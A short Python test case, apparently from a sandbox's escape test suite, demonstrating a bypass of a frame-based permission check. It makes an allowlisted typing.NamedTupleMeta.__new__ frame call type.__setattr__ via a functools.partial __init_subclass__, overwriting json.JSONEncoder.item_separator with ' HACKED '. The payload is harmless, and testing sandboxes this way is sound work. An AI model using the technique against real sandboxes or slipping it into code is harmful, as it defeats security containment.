# technique: typing.NamedTupleMeta.__new__ is allowlisted for exec/compile/setattr (caller_may_exec); for a generic NamedTuple it calls nm_tpl.__init_subclass__(), which the class body set to a C functools.partial, so type.__setattr__ runs with NamedTupleMeta.__new__ as the calling frame and may modify any stdlib class
# expect: any
from typing import NamedTuple, Generic, TypeVar
import functools, json
T = TypeVar("T")
try:
    type.__setattr__(json.JSONEncoder, "item_separator", " HACKED ")
except Exception as e:
    print("direct:", e)
class X(NamedTuple, Generic[T]):
    a: int
    __init_subclass__ = functools.partial(type.__setattr__, json.JSONEncoder, "item_separator", " HACKED ")
print(repr(json.JSONEncoder.item_separator))
json.dumps([1, 2])
